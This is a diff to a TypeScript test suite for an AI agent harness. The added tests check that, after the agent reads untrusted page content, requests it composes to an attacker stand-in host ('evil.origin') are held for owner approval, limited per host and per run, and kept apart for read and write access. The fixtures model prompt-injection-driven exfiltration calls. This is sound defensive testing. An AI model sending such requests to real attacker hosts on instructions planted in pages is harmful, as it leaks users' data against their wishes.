@@ -68,7 +68,8 @@ async function open(
 
 const read = () => cmd(`http.request --url ${site.origin}/`);
 const say = () => house.say(`Read ${site.origin}/ and tell me what it says.`);
-const lastWords = async () => (await house.inbox()).at(-1) ?? '';
+const lastWords = async () =>
+  (await house.inbox()).findLast((words) => words.startsWith('assistant: ')) ?? '';
 
 const SKILL =
   '---\nname: out\ndescription: Posts. Use when something is to be posted.\n---\n\nPost.\n';
@@ -203,6 +204,58 @@ describe('words are carried to somebody new', () => {
   });
 });
 
+describe('what its owner is asked', () => {
+  const composed = () => cmd(`http.request --url ${evil.origin}/?q=1`);
+  const openRequests = () => house.opened.requests.list({ state: 'open', limit: 10 });
+
+  test('is one question for each host, told beneath the answer; a yes holds from then on', async () => {
+    const another = () => cmd(`http.request --url ${evil.origin}/?q=2`);
+    await open([read, composed, another, { text: 'No.' }, read, another, { text: 'Yes.' }]);
+    await say();
+    const [request, ...others] = await openRequests();
+    expect(others).toEqual([]);
+    expect(request).toMatchObject({ kind: 'call', about: `read:${new URL(evil.origin).host}` });
+    expect(await lastWords()).toContain(
+      `and 1 more like it: it had read what others wrote and put this address together`,
+    );
+    expect(await lastWords()).toContain(`rote requests answer ${request?.id} yes`);
+    await house.opened.requests.answer(request?.id ?? '', 'yes');
+    await say();
+    expect(arrived).toEqual(['GET /?q=2']);
+    expect(await lastWords()).toBe('assistant: Yes.');
+  });
+
+  test('is not asked again after a no', async () => {
+    await open([read, composed, { text: 'No.' }, read, composed, { text: 'No.' }]);
+    await say();
+    const [request] = await openRequests();
+    await house.opened.requests.answer(request?.id ?? '', 'no');
+    await say();
+    expect(arrived).toEqual([]);
+    expect(await openRequests()).toEqual([]);
+    expect(await lastWords()).toContain('you said no to');
+  });
+
+  test('a yes to reading is none to writing, and none for another port', async () => {
+    const post = () => cmd(`http.request --url ${evil.origin}/ --method POST --body x`);
+    const port = () => cmd(`http.request --url ${site.origin.replace('127.0.0.1', 'localhost')}/x`);
+    await open([read, composed, { text: 'No.' }, read, post, port, { text: 'No.' }]);
+    await say();
+    const [request] = await openRequests();
+    await house.opened.requests.answer(request?.id ?? '', 'yes');
+    await say();
+    expect(arrived).toEqual([]);
+    expect((await openRequests()).map(({ about }) => about)).toContain(`write:${evil.origin}`);
+  });
+
+  test('is no more than five questions in a run, however many hosts a page names', async () => {
+    const hosts = Array.from({ length: 9 }, (_, index) => `http://h${index}.test/?q=1`);
+    await open([read, ...hosts.map((url) => () => cmd(`http.request --url ${url}`))]);
+    await say();
+    expect(await openRequests()).toHaveLength(5);
+  });
+});
+
 describe('what is harmless goes on', () => {
   test('an address that stood in the page is read, and one in the next turn as well', async () => {
     page = (_, response) => response.end(`See ${evil.origin}/one and ${evil.origin}/two.`);
@@ -284,7 +337,7 @@ describe('a run that was told to by the words of others', () => {
       trigger: { everyMs: 3_600_000 },
     });
     const told = await lastWords();
-    for (const verb of verbs) expect(told).toContain(`schedule.${verb}`);
+    for (const verb of ['pause', 'remove']) expect(told).toContain(`schedule.${verb}`);
   });
 
   test('no prompt begins with what a skill says of itself that its owner does not trust', async () => {
